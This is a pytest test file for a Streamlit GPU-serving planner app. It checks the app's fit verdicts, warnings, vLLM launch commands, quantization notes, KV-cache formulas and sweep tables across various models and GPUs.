@pytest.mark.usefixtures("e2b_hub")
def test_unmodelled_audio_tower_verdict_and_cold_compile_note_on_the_plan_page() -> None:
    # Gemma-4 E2B fits one H100 but its audio tower is not sized: the verdict is a warning
    # naming it, never a plain green "Fits:"; the activation term says its fit planned a
    # cold torch.compile cache (every calibration log compiled cold, planner.serving.engine)
    at = open_page(None, model="google/gemma-4-E2B-it", gpu="h100-sxm", gpn="1")
    assert not at.exception
    assert unmodelled_verdict(at).startswith("Fits (unmodelled: audio tower (audio_config)): ")
    assert any(w.value.startswith("Not modelled: audio tower") for w in at.warning)
    assert ("on vLLM v0.19 H100 start-ups with a cold torch.compile cache (a warm cache can "
            "measure less and leave more KV: README Known limits)") in texts(at)


def test_unmodelled_encoder_profile_verdict_on_the_plan_page() -> None:
    # gemma-3-4b-it on one H100: the measured start-ups hold its SigLIP encoder's start-up
    # profile at 8,192 batched tokens / 1,024 sequences (8 per sequence, vLLM's default
    # there); 16 sequences is 512 per sequence: the verdict is a warning naming the encoder,
    # with the warning that says how to avoid it, never a plain green "Fits:"
    at = open_page(None, model="google/gemma-3-4b-it", gpu="h100-sxm", gpn="1", seqs="16")
    assert not at.exception
    assert unmodelled_verdict(at).startswith(
        "Fits (unmodelled: Gemma 3 SigLIP vision encoder start-up profile): ")
    assert any(w.value.startswith("vLLM profiles the Gemma 3 SigLIP vision encoder")
               for w in at.warning)
    default = open_page(None, model="google/gemma-3-4b-it", gpu="h100-sxm", gpn="1")
    assert any(s.value.startswith("Fits:") for s in default.success)


def test_sweep_rows_on_unmodelled_figures_are_named_under_the_table() -> None:
    # gemma-3-4b-it on 2 H100s at vLLM's defaults: the measured start-ups cover its SigLIP
    # profile on one pipeline stage only (encoder_cover), so exactly the PP=2 rows fit on
    # figures that leave it out; the warning under the table names their positions
    at = open_page(None, model="google/gemma-3-4b-it", gpu="h100-sxm", gpn="2")
    at.button[0].click().run()  # "Run the sweep"
    assert not at.exception
    table = at.dataframe[-1].value
    pp_rows = [i for i, layout in enumerate(table["layout"], 1) if "PP=2" in layout]
    assert pp_rows
    named = [w.value for w in at.warning if "counted from the top" in w.value]
    assert len(named) == 1
    assert named[0].startswith(f"yes\\*: {len(pp_rows)} rows (")  # the fits column's mark
    assert [table["fits"].iloc[i - 1] for i in pp_rows] == ["yes*"] * len(pp_rows)
    assert "leave out Gemma 3 SigLIP vision encoder start-up profile" in named[0]


def test_two_nodes_get_a_command_each() -> None:
    # DeepSeek-V3 on 2 nodes x 8 H100: the hardware's layout is TP=8 x DP=2 + EP, one replica
    # a node; one `vllm serve` per node, node 1 headless (vLLM 0.12+ --nnodes)
    at = open_page(None, model="deepseek-ai/DeepSeek-V3", gpu="h100-sxm", gpn="8", nodes="2")
    assert not at.exception
    block = launch_command(at)
    lines = block.splitlines()
    assert lines[0::2] == ["# node 0", "# node 1"]
    assert lines[1].endswith("--nnodes 2 --master-addr $HEAD_NODE_IP --node-rank 0")
    assert lines[3].endswith("--nnodes 2 --master-addr $HEAD_NODE_IP --node-rank 1 --headless")
    assert "--data-parallel-size 2" in lines[1]


def test_offline_a_model_not_in_the_catalog_is_not_said_to_be_asked_again() -> None:
    # HF_HUB_OFFLINE (every app test): the hub is never asked, so the remembered failure
    # given on the rerun has no "asked again after 60 s"
    at = open_page("plan", model="Qwen3-8B")
    at.run()
    assert not at.exception
    errors = [e.value for e in (*at.error, *at.sidebar.error)]
    assert any("HF_HUB_OFFLINE is set, so the hub was not asked" in e for e in errors)
    assert not [e for e in errors if "asked again" in e or "s old" in e]
    # the CLI's way out ("or pass a path to its config.json") is one the app refuses
    assert "Cannot plan this: HF_HUB_OFFLINE is set, so the hub was not asked: Qwen3-8B is not " \
        "in this server's local cache nor in the bundled catalog." in errors
    assert not [e for e in errors if "config.json" in e]
    # the way out is one click away, under the reason and in the sidebar
    assert [link.proto.page for link in at.main.get("page_link")] == ["model"]
    assert [link.proto.page for link in at.sidebar.get("page_link")] == ["model"]
    # each with the icon the navigation gives the Model page (app.py's st.Page), one
    # ui.context.MODEL_PAGE for all three
    assert {link.proto.icon for link in (*at.main.get("page_link"),
                                         *at.sidebar.get("page_link"))} == {":material/neurology:"}


def test_hardware_that_cannot_be_planned_links_to_the_hardware_page() -> None:
    # a link's live audit on a server without a GPU (every app test's machine: the recorded
    # VM snapshot, no GPUs): the Plan, Compare and Report pages said "Cannot plan this: vm:
    # the snapshot has no GPUs" and nothing more; the way out is one click away, as for a
    # model that cannot be read, and only the hardware's (the model is fine)
    for page in ("plan", "compare", "report"):
        at = open_page(page, hw="audit")
        assert not at.exception
        assert any("the snapshot has no GPUs" in e.value for e in at.error), page
        assert [link.proto.page for link in at.main.get("page_link")] == ["hardware"], page
        # the sidebar's one pointer there, without the reason (tests/app/
        # test_walkthrough_fixes.py: the reason once)
        assert [link.proto.page for link in at.sidebar.get("page_link")] == ["hardware"], page
        assert {link.proto.icon for link in (*at.main.get("page_link"),
                                             *at.sidebar.get("page_link"))} \
            == {":material/developer_board:"}, page


def test_each_error_is_shown_once_beside_the_verdict() -> None:
    # max_model_len 1,000,000 on the seed: vLLM fails two checks, the length over the
    # model's 40,960 (the verdict's, the first) and one request's KV cache, 1,000,000 x
    # 48,128 B = 44.82 GiB, over the 5.31 GiB pool. The page showed the first twice and left
    # the second out (it took the verdict for the last error); the CLI prints each once.
    at = open_page(None, len="1000000")
    assert not at.exception
    errors = [e.value for e in at.error]
    assert errors[0].startswith("Does not fit: User-specified max_model_len (1000000) is "
                                "greater than the derived max_model_len")
    assert errors[1].startswith("To serve at least one request with the model's max seq len "
                                "(1000000), (44.82 GiB KV cache is needed")
    assert len(errors) == 2


def test_applying_a_row_without_ep_keeps_the_ep_choice_where_ep_cannot_apply() -> None:
    # the seed's sweep: a TP=1 x PP=8 row has no EP variant (one GPU per stage: no routed
    # experts to spread), so taking it must not turn EP off. It did: "Use the hardware's
    # layout" then gave TP=8 without EP, Marlin's fallback warning and another command than
    # the seed's TP=8 + EP (README). A TP=8 row without EP, which has an EP variant, still
    # turns it off.
    at = open_page()

    def apply(layout: str) -> None:  # a sweep made on the current settings, its row applied
        at.button(key="plan.run_sweep").click().run()
        layouts = list(at.dataframe[-1].value["layout"])
        at.selectbox(key="plan.sweep_row").set_value(layouts.index(layout)).run()
        next(b for b in at.button if b.label == "Apply").click().run()

    apply("TP=1 x PP=8")
    assert at.query_params["ep"] == "1" and at.query_params["pp"] == "8"
    at.button(key="plan.auto_layout").click().run()
    assert "--tensor-parallel-size 8 --enable-expert-parallel" in launch_command(at)
    assert not any("Marlin MoE kernel" in w.value for w in at.warning)
    apply("TP=8")
    assert at.query_params["ep"] == "0"
    assert "--enable-expert-parallel" not in launch_command(at)


def test_a_checkpoint_typed_for_a_runtime_what_if_is_the_one_served() -> None:
    # FP8 of Qwen3-32B on 2 L40S: vLLM makes it at load (--quantization fp8), but a checkpoint
    # typed in "Checkpoint in this format" is what the CLI's --target-quant fp8
    # --target-checkpoint serves; the page kept the field filled and printed `vllm serve
    # Qwen/Qwen3-32B --quantization fp8`. The figures are the same FP8 weights either way:
    # 17,170,458,624 B = 15.99 GiB per GPU, as the CLI plans both.
    query = {"model": "Qwen/Qwen3-32B", "gpu": "l40s", "gpn": "2", "quant": "fp8"}
    runtime = open_page(None, **query)
    assert "vllm serve Qwen/Qwen3-32B --tensor-parallel-size 2 --quantization fp8 " in \
        launch_command(runtime)
    at = open_page(None, **query, ckpt="me/Qwen3-32B-FP8-mine")
    assert not at.exception
    command = launch_command(at)
    assert command.startswith("vllm serve me/Qwen3-32B-FP8-mine --tensor-parallel-size 2 ")
    assert "--quantization" not in command
    assert metric(at, "Weights per GPU") == metric(runtime, "Weights per GPU") == "15.99 GiB"


def test_a_checkpoint_typed_in_another_format_gets_no_command() -> None:
    # (review h436 #4) Qwen3-32B in W4A16 on 2 L40S with Qwen/Qwen3-32B-FP8 typed in: that
    # catalog checkpoint's config holds fp8-block128, so `vllm serve Qwen/Qwen3-32B-FP8` would
    # load FP8 weights (about twice the W4A16 ones planned); the page printed it. Now no
    # command, and the note says why in the page's words (its Model page, its field)
    query = {"model": "Qwen/Qwen3-32B", "gpu": "l40s", "gpn": "2", "quant": "w4a16-gptq-g128"}
    at = open_page(None, **query, ckpt="Qwen/Qwen3-32B-FP8")
    assert not at.exception
    assert launch_command(at) == ""
    [note] = [i.value for i in at.info if "holds" in i.value]
    assert note.startswith(
        "No GPTQ int4, group 128 (W4A16) command: Qwen/Qwen3-32B-FP8 holds fp8-block128 weights "
        "(FP8 E4M3, 128x128 block scales), not the w4a16-gptq-g128 planned: a command loading "
        "it would not run this plan; plan Qwen/Qwen3-32B-FP8 itself (pick it on the Model "
        "page), or give a GPTQ int4, group 128 (W4A16) checkpoint in the Plan page's "
        "\"Checkpoint in this format\" field.")
    assert "--model" not in note and "--target-checkpoint" not in note


def test_the_tp_sizes_not_offered_are_named_as_runs() -> None:
    # Qwen3-8B (32 query heads, 8 KV heads) on 16 nodes x 8 H100s: TP must divide 32 and
    # divide or be divided by 8, so 1, 2, 4, 8, 16 and 32 are offered and the other 122 sizes
    # up to 128 are not; named one by one, the expander's header ran to 524 characters
    at = open_page(None, gpu="h100-sxm", gpn="8", nodes="16", model="Qwen/Qwen3-8B")
    assert not at.exception
    assert [int(o) for o in at.selectbox(key="plan.tp").options] == [1, 2, 4, 8, 16, 32]
    assert "Why not TP = 3, 5-7, 9-15, 17-31, 33-128?" in [e.label for e in at.expander]
    # the 122 reasons are paragraphs of one element (an element each cost ~1 s a rerun at
    # 64 nodes x 64 GPUs), in TP order, each as before
    (why,) = [e for e in at.expander if e.label.startswith("Why not TP")]
    (reasons,) = why.markdown
    paragraphs = reasons.value.split("\n\n")
    assert len(paragraphs) == 122 and paragraphs[0].startswith("**TP=3**: Total number of")
    assert paragraphs[-1] == ("**TP=128**: Total number of attention heads (32) must be "
                              "divisible by tensor parallel size (128).")
    # the hardware is one object across reruns (the planner caches layouts by its identity)
    at.run()
    assert len(at.session_state["preset_clusters"]) == 1


def test_a_verdict_under_the_models_length_names_the_pages_field() -> None:
    # the seed at max_model_len 8,000: the KV cache holds a request of the config's 40,960
    # positions, which the Plan page's max_model_len field (the CLI: --max-model-len) opens
    at = open_page("plan", len="8000")
    verdict = at.success[0].value
    assert verdict.endswith(
        "one request can reach 8,000 tokens (max_model_len; the KV cache holds one of 40,960 "
        "at a larger max_model_len (the Plan page's field)).")


def test_an_mla_models_kv_note_speaks_of_its_latent_not_of_kv_heads() -> None:
    # DeepSeek-V3 on 2 nodes x 8 H100: MLA caches one latent per layer, (512 + 64) x 2 B =
    # 1,152 B x 61 layers = 70,272 B per token on every GPU at TP=8; the caption under the
    # formulas said "KV heads are replicated, not split, once TP exceeds their count", of
    # heads the model does not cache
    at = open_page(None, model="deepseek-ai/DeepSeek-V3", gpu="h100-sxm", nodes="2")
    assert not at.exception
    assert "KV bytes per token, per GPU at TP=8: **70,272 B**" in texts(at)
    assert ("The latent (kv_lora_rank + rope dims) at 2 B per element; MLA caches one latent "
            "per token per layer, whole on every GPU: TP does not split it."
            in [c.value for c in at.caption])
    assert "KV heads are replicated" not in texts(at)
    # a model with KV heads keeps its note (the seed: 4 KV heads at TP=8)
    assert ("K and V at 2 B per element; KV heads are replicated, not split, once TP exceeds "
            "their count." in [c.value for c in open_page().caption])


def test_every_figures_formula_is_shown_whole() -> None:
    # "How every figure is computed" was a grid that cut each formula at its column's edge at
    # 1280 px: the KV pool's read "21.68 GiB - 14.56 GiB weights - 0.86 GiB activation -
    # 0.25 GiB" and stopped. A static table wraps it whole: the seed's pool is the 21.68 GiB
    # budget less 14.56 GiB of weights, 0.86 activation, 0.25 non-torch, 0.16 of Model Runner
    # V2's buffers (vLLM 0.34.0: tests/planner/serving/test_seed_scenario.py) and 0.71 of CUDA
    # graphs = 5.16 GiB (the metric beside it)
    at = open_page()
    [table] = [t.value for t in at.table if "Budget (total x utilization)" in t.value.index]
    pool = table.loc["KV cache pool per GPU", "formula"]
    assert pool.startswith("21.68 GiB - 14.56 GiB weights - 0.86 GiB activation - 0.25 GiB")
    assert pool.endswith("- 0.16 GiB runner buffers - 0.71 GiB CUDA graphs = 5.16 GiB")
    assert metric(at, "KV pool per GPU") == "5.16 GiB"
    assert list(table.columns) == ["value", "formula", "inputs", "note"]
    # each figure's named inputs beside its formula: the seed's 4 KV heads at TP=8 hold 1 per
    # GPU, 94 layers x 1 x (128 + 128) x 2 B = 48,128 B
    assert table.loc["KV bytes per token per GPU", "inputs"].startswith(
        "layers = 94, kv_heads = 4, tp = 8, kv_heads_per_gpu = 1, head_dim = 128, "
        "v_head_dim = 128, kv_dtype_bytes = 2")


def _in_order(node):
    """Every element and block under `node`, in the order the page shows them."""
    for child in getattr(node, "children", {}).values():
        yield child
        yield from _in_order(child)


def test_a_v2_plan_shows_the_warm_restart_pool_under_the_kv_figures() -> None:
    # Qwen3-8B on one RTX 4090 at vLLM 0.27.0 (Model Runner V2), max_model_len 8,192: a warm
    # restart's pool, 6,354,537,174 B = 5.92 GiB, holds 2,693 blocks of 2,359,296 B: 2,693 /
    # 512 = 5.26 requests of 8,192 tokens, 43,088 tokens (hand-worked in
    # tests/cli/test_planner_cli.py test_plan_json_v2_warm_restart_pool, whose 0.27.1 plans
    # with 0.27.0's rules); one caption right under the KV metrics, the verdict above
    at = open_page(None, model="Qwen/Qwen3-8B", gpu="rtx-4090", gpn="1", vllm="0.27.0",
                   len="8192")
    assert not at.exception
    warm = md_escape("Warm restart: 5.92 GiB = 43,088 KV tokens, 5.26 requests at 8,192 tokens "
                     "(Model Runner V2 restarting with a warm torch.compile cache; this plan "
                     "sizes the first, cold-compile start-up)")
    shown = [e for e in _in_order(at.main) if e.type in ("metric", "caption", "success")]
    at_caption = next(i for i, e in enumerate(shown) if e.type == "caption" and e.value == warm)
    assert shown[at_caption - 1].label == "Concurrency at 8,192 tokens"
    verdict = next(i for i, e in enumerate(shown) if e.type == "success")
    assert verdict < at_caption and shown[verdict].value.startswith("Fits: ")
    # no such caption where the plan has none: the seed (MoE: V2's MoE forward is not read)
    # and V1 (0.19.0)
    for page in (open_page(), open_page(None, model="Qwen/Qwen3-8B", gpu="rtx-4090", gpn="1",
                                        vllm="0.19.0", len="8192")):
        assert not page.exception
        assert not [c for c in page.caption if c.value.startswith("Warm restart")]


def test_a_plan_refused_cold_that_fits_warm_shows_the_command_to_run_twice() -> None:
    # Qwen3-8B on one RTX 4090 at vLLM 0.34.0, max_model_len 36,000: refused on its first,
    # cold-compile start-up, held by the warm restart's pool (tests/cli/
    # test_warm_restart_refused_cold.py works the bytes); the page gave no command to run
    at = open_page(None, model="Qwen/Qwen3-8B", gpu="rtx-4090", gpn="1", vllm="0.34.0",
                   len="36000")
    assert not at.exception
    assert [c for c in at.caption if c.value == md_escape(WARM_RESTART_LAUNCH_NOTE)]
    commands = [c.value for c in at.code if "--max-model-len 36000" in c.value]
    assert len(commands) == 1 and commands[0].startswith("vllm serve Qwen/Qwen3-8B")
    # one node: nothing to add under the command (its launch note is empty)
    assert not [c for c in at.caption if c.value.startswith("Over ")]


def test_warm_restart_commands_over_two_nodes_say_to_set_head_node_ip() -> None:
    # (review h436 #5) Llama-3.1-70B, TP=8 x DP=2 on 2 nodes of 8 H100s at utilization 0.33:
    # refused cold, held warm (tests/cli/test_warm_restart_refused_cold.py); the two warm
    # commands came without the note on HEAD_NODE_IP, so `--master-addr $HEAD_NODE_IP` pasted
    # as shown lost its value
    at = open_page(None, model="meta-llama/Llama-3.1-70B-Instruct", gpu="h100-sxm", gpn="8",
                   nodes="2", tp="8", dp="2", gmu="0.33")
    assert not at.exception
    shown = [e for e in _in_order(at.main) if e.type in ("caption", "code")]
    warm = next(i for i, e in enumerate(shown)
                if e.type == "caption" and e.value == md_escape(WARM_RESTART_LAUNCH_NOTE))
    assert shown[warm + 1].type == "code"
    assert shown[warm + 1].value.endswith("--node-rank 1 \\\n  --headless")
    # as the fitting plan's caption words it (app_markdown: flags as code)
    assert shown[warm + 2].value == md_escape(
        "Over 2 nodes: set HEAD_NODE_IP to node 0's address on every node and run node R's "
        "command there (`--node-rank` R; node 0 serves the API, the others run `--headless`). "
        "The other nodes must reach node 0 on TCP ports 29501 and 29550 (`--master-port` and "
        "`--data-parallel-rpc-port`) and on ports vLLM picks at start. "
        "NCCL also connects the GPU processes of every node to one another over TCP, on ports "
        "each node takes from its ephemeral range (net.ipv4.ip_local_port_range): allow TCP "
        "between the nodes, or narrow that range on each and open it between them. "
        "Where a node has more than one network interface, set VLLM_HOST_IP to the node's own "
        "address and NCCL_SOCKET_IFNAME and GLOO_SOCKET_IFNAME to the interface that reaches "
        "the other nodes, in the shell that runs the node's command.")


def _routed_experts_term(at) -> str:
    """The routed experts' part of the weights formula in "How every figure is computed"."""
    formula = next(table.value for table in at.table if "formula" in table.value.columns)
    weights = formula.loc["Weights on the binding GPU", "formula"]
    return weights.split("routed experts ")[1].split(" ")[0]


def test_an_unticked_ep_box_is_planned_without_ep_where_no_layout_fits() -> None:
    # gpt-oss-120b (36 layers, 128 experts of 3 x 2880 x 2880 MXFP4 weights at 4.25 bits and
    # 8,640 bf16 biases) cannot fit 2 RTX 4090s either way. The hardware's layout opened on the
    # split closest to fitting, TP=2 + EP, under an unticked EP box (the CLI's plan without
    # --ep plans TP=2). Marlin pads MXFP4 experts to hidden % 256 and width % 128:
    #   TP=2: 128 experts sliced, 3 x 3072 x 1536 (1440 -> 1536) x 36 x 128 x 4.25 / 8 B
    #         = 34,653,339,648 B + biases at the padded sizes, w2's whole on each rank,
    #         36 x 128 x (2 x 1536 + 3072) x 2 B = 56,623,104 B -> 32.33 GiB
    #   EP:   64 whole experts, 3 x 3072 x 2944 (2880 -> 2944) x 36 x 64 x 4.25 / 8 B
    #         = 33,209,294,848 B + 36 x 64 x (2 x 2944 + 3072) x 2 B = 41,287,680 B -> 30.97 GiB
    at = open_page(None, model="openai/gpt-oss-120b", gpu="rtx-4090", gpn="2", ep="0")
    assert not at.exception
    assert not at.checkbox(key="plan.ep").value
    assert any(e.value.startswith("Does not fit") for e in at.error)
    assert _routed_experts_term(at) == "32.33"
    at.checkbox(key="plan.ep").check().run()
    assert _routed_experts_term(at) == "30.97"


def test_the_greyed_ep_box_says_why_there_is_no_ep_in_the_layout() -> None:
    # Qwen1.5-MoE-A2.7B has 60 routed experts: at TP=8 (8 H100, the hardware's layout) 60 % 8
    # = 4, which vLLM 0.10.0 gives all to the last rank (not planned: layout.UNEVEN_EXPERTS_FROM);
    # the greyed box said "no routed experts to spread over GPUs"
    at = open_page(None, model="Qwen/Qwen1.5-MoE-A2.7B", gpu="h100-sxm", vllm="0.10.0")
    assert not at.exception
    box = at.checkbox(key="plan.ep_none")
    assert box.disabled and not box.value
    assert box.help == "60 routed experts are not divisible by the expert-parallel size 8 " \
        "(tp x dp): vLLM 0.10.0 puts the remaining experts on the last EP rank, which " \
        "Headroom does not plan (from 0.10.1 it plans the uneven split)."
    # from 0.10.1 the split is 8, 8, 8, 8, 7, 7, 7, 7 (determine_expert_map): EP offered
    assert not open_page(None, model="Qwen/Qwen1.5-MoE-A2.7B", gpu="h100-sxm").checkbox(
        key="plan.ep").disabled
    dense = open_page(None, model="Qwen/Qwen3-32B", tp="4")
    assert dense.checkbox(key="plan.ep_none").help == "no routed experts to spread over GPUs: " \
        "a dense model"
    one = open_page(None, model="Qwen/Qwen3-30B-A3B", gpu="h100-sxm", gpn="1")
    assert one.checkbox(key="plan.ep_none").help == "one GPU a replica (TP x DP = 1): no " \
        "other GPU to spread the routed experts over"


def test_a_linked_what_if_not_offered_says_which_reason_applies() -> None:
    # the refusal said "a quantized checkpoint is planned as stored, and what-ifs must run on
    # this GPU" whichever applied: a BF16 checkpoint on a V100 (compute capability 7.0, no
    # FP8 kernel), a FP8 checkpoint, or the checkpoint's own format named in the link
    def refusal(**query: str) -> str:
        at = open_link("plan", **query)
        assert not at.exception
        [shown] = [w.value for w in at.warning if w.value.startswith("Quantization = ")]
        return shown
    assert refusal(model="Qwen/Qwen3-8B", gpu="v100-32gb", gpn="1", quant="fp8") == (
        'Quantization = "What-if: FP8 E4M3, per-tensor scale" is not possible here: FP8 E4M3, '
        "per-tensor scale is not a format vLLM runs on the Tesla V100-SXM2-32GB (compute "
        "capability 7.0), the what-ifs offered here. Showing Quantization = \"Checkpoint: "
        # as the box names it on a V100, without bfloat16 (tests/app/test_walkthrough_fixes.py)
        'BF16, served in FP16" instead.')
    assert refusal(model="Qwen/Qwen3-32B-FP8", gpu="h100-sxm", gpn="1", quant="w4a16") == (
        'Quantization = "What-if: GPTQ int4, group 128 (W4A16)" is not possible here: '
        "Qwen/Qwen3-32B-FP8 is a quantized checkpoint (FP8 E4M3, 128x128 block scales), planned "
        "as stored: what-ifs are for 16-bit checkpoints. Showing Quantization = \"Checkpoint: "
        'FP8 E4M3, 128x128 block scales" instead.')
    assert refusal(quant="w4a16") == (
        'Quantization = "What-if: GPTQ int4, group 128 (W4A16)" is not possible here: it is the '
        "checkpoint's own format, GPTQ int4, group 128 (W4A16), which the Quantization choice "
        'Checkpoint plans. Showing Quantization = "Checkpoint: GPTQ int4, group 128 (W4A16)" '
        "instead.")


def test_the_open_chart_and_the_heatmap_choice_stay_after_a_visit_to_another_page() -> None:
    # Streamlit forgets a widget's value once its page is left: back from the Compare page the
    # Memory tab was open again and the sweep's heatmap showed the ceiling again
    at = open_page()
    show_chart(at, "Concurrency vs context")
    at.button(key="plan.run_sweep").click().run()
    at.radio(key="plan.heatmap_metric").set_value("concurrency").run()
    at.switch_page("ui/pages/compare.py").run()
    at.switch_page("ui/pages/plan.py").run()
    assert not at.exception
    assert at.session_state["plan.charts"] == "Concurrency vs context"
    assert at.radio(key="plan.heatmap_metric").value == "concurrency"


def test_a_what_if_without_a_checkpoint_points_to_the_field_for_one() -> None:
    """Qwen3-8B in AWQ on an RTX 3090: no AWQ checkpoint of it is known, and vLLM makes none
    at load, so there is no command. The note said "give its name (--target-checkpoint)", a
    CLI flag, on the page whose way to it is the field above it; and that field's example
    read "org/model-GPTQ" whatever the format."""
    at = open_page(None, model="Qwen/Qwen3-8B", gpu="rtx-3090", gpn="1", quant="awq")
    assert not at.exception
    assert not [c for c in at.code if c.language == "bash"]
    [note] = [i.value for i in at.info if "quantize it first" in i.value]
    assert "--target-checkpoint" not in note
    assert "and give its name in the Plan page's \"Checkpoint in this format\" field" in note
    assert at.text_input(key="plan.target_checkpoint").placeholder == "org/model-AWQ"
    at.selectbox(key="plan.quant").set_value("fp8-tensor").run()  # vLLM makes it at load
    assert at.text_input(key="plan.target_checkpoint").placeholder == "org/model-FP8"


def test_one_gpu_says_no_rule_for_choosing_its_layout() -> None:
    # as the CLI's plan: one GPU's only layout is TP=1, so "Layout chosen for this hardware:
    # TP = GPUs per node, the nodes as ..." explained a choice there is not; two GPUs keep it
    at = open_page(None, model="Qwen/Qwen3-8B", gpu="l4", gpn="1")
    assert not at.exception
    assert not [c for c in at.caption if c.value.startswith("Layout chosen for this hardware")]
    at = open_page(None, model="Qwen/Qwen3-8B", gpu="l4", gpn="2")
    assert [c for c in at.caption if c.value.startswith("Layout chosen for this hardware: TP = ")]


def test_a_ceiling_above_max_model_len_says_where_a_request_stops() -> None:
    """Qwen3-32B in AWQ on an RTX 4090 with an fp8 KV cache at max_model_len 16,384: the KV
    pool holds 260 blocks of 64 tokens = 16,640, less vLLM's null block = 16,576 for one
    request (the CLI's figures), so the "Context ceiling" metric read 16,576 beside a verdict
    whose request reaches 16,384. The page says what the CLI's line says: a request stops at
    max_model_len. At the model's own max_model_len (40,960, above the ceiling) no such line."""
    query = {"model": "Qwen/Qwen3-32B", "gpu": "rtx-4090", "gpn": "1", "quant": "awq",
             "kv": "fp8"}
    at = open_page(None, **query, len="16384")
    assert not at.exception
    assert metric(at, "Context ceiling") == "16,576"
    assert "Context ceiling 16,576 tokens; served at max_model_len 16,384, a request stops " \
        "there." in [c.value for c in at.caption]
    at = open_page(None, **query)
    assert not any("a request stops there" in c.value for c in at.caption)


def test_the_sweep_names_its_rows_whose_longest_request_never_completes() -> None:
    # vLLM 0.28 starts Qwen3-8B in bf16 on one RTX 3090 at 34,528 tokens (its start-up check
    # takes all 2,158 blocks of 16 = 34,528 tokens), but BlockPool keeps one as the null block:
    # the grid's fits column reads stalls (it was ticked as a plain fit), and a warning names
    # the row, as yes* rows get one
    at = open_page("plan", model="Qwen/Qwen3-8B", gpu="rtx-3090", gpn="1", vllm="0.28.0",
                   len="34528")
    at.button(key="plan.run_sweep").click().run()
    assert not at.exception
    grid = at.dataframe[-2].value
    [warning] = [w.value for w in at.warning if w.value.startswith("stalls: Row")]
    rank = int(warning.split()[2])
    row = grid.iloc[rank - 1]
    assert (row["quantization"], row["layout"], row["KV dtype"], row["fits"]) == (
        "BF16", "TP=1", "auto", "stalls")
    assert warning.endswith(
        "(counted from the top): vLLM (before 0.29) starts it, but a "
        "request that grows to max_model_len never completes: the KV blocks less the null "
        "block vLLM takes are too few (the Plan above gives the warning for its own settings).")


def test_a_sweep_row_capped_by_the_kv_cache_shows_the_wait_for_a_slot() -> None:
    # Qwen3-235B-A22B-GPTQ-Int4 on 8 RTX 3090s at 8,192 tokens, 64 requests in flight: TP=1 x
    # PP=7 with 16-bit KV holds 49,856 tokens = 3,116 blocks of 16, and a request of 1,024 in
    # + 512 out on average 96 blocks, so 32 run at once (tests/cli/test_sweep_kv_wait.py); the
    # other 32 clients wait (64 / 32 - 1) x (TTFT + 1,024 x TPOT) for a slot, plan's kv_wait
    at = open_page(None, gpu="rtx-3090", gpn="8", len="8192", conc="64", obj="fewest-gpus")
    at.button(key="plan.run_sweep").click().run()
    assert not at.exception
    grid = at.dataframe[-2]
    assert "slot wait (s)" in list(grid.proto.column_order)
    table = grid.value
    row = table[(table["layout"] == "TP=1 x PP=7") & (table["KV dtype"] == "auto")].iloc[0]
    assert row["at concurrency"] == 32
    assert row["slot wait (s)"] == pytest.approx(
        (64 / 32 - 1) * (row["TTFT (ms)"] + 1024 * row["TPOT (ms)"]) / 1e3, abs=0.1)
    assert table[table["at concurrency"] == 64]["slot wait (s)"].isna().all()
    caption = next(c.value for c in at.caption if "Speed columns" in c.value)
    assert "Capped (#" in caption and "no objective ranks these rows as serving all 64" in caption
    assert caption.endswith(" Ceiling: the longest single request a row's KV cache holds, at a "
                            "larger --max-model-len than the 8,192 its command sets (the "
                            "model's limit at most).")


def test_a_sweep_without_a_capped_row_has_no_wait_column() -> None:
    at = open_page()  # one request in flight: every row holds it
    at.button(key="plan.run_sweep").click().run()
    assert "slot wait (s)" not in at.dataframe[-2].value.columns


def test_key_figures_in_one_row_under_the_verdict() -> None:
    """TTFT, TPOT and output tokens/s, then Weights per GPU and KV pool per GPU: the first
    row under the verdict (in view at 1366x768: tests/browser/test_browser_headline.py); the
    KV room, context ceiling and concurrency next, the speed's rates and KV bytes last."""
    labels = [m.label for m in open_page().metric]  # the seed: conc=1 by default
    assert labels == ["TTFT", "TPOT", "Output tokens/s at 1", "Weights per GPU",
                      "KV pool per GPU", "KV room, one request (tokens)",
                      "Context ceiling (tokens)", "Concurrency at 40,960 tokens",
                      "Tokens/s per request", "Prefill tokens/s", "KV bytes/token per GPU"]


def test_a_plan_that_does_not_fit_leads_with_its_weights() -> None:
    # Qwen3-32B in BF16 on one RTX 3090: 32.8e9 parameters x 2 B ~ 61 GiB of weights, over
    # the 3090's 24 GB: no speed, so the weights and the pool lead, the nearest change after
    at = open_page(None, model="Qwen/Qwen3-32B", gpu="rtx-3090", gpn="1")
    assert not at.exception and at.error[0].value.startswith("Does not fit:")
    assert [m.label for m in at.metric][:3] == ["Weights per GPU", "KV pool per GPU",
                                                "KV room, one request (tokens)"]
    assert metric(at, "KV pool per GPU") == "none"
    assert [i.value.split(":")[0] for i in at.info][:2] == ["Nearest change",
                                                           "No speed figures"]
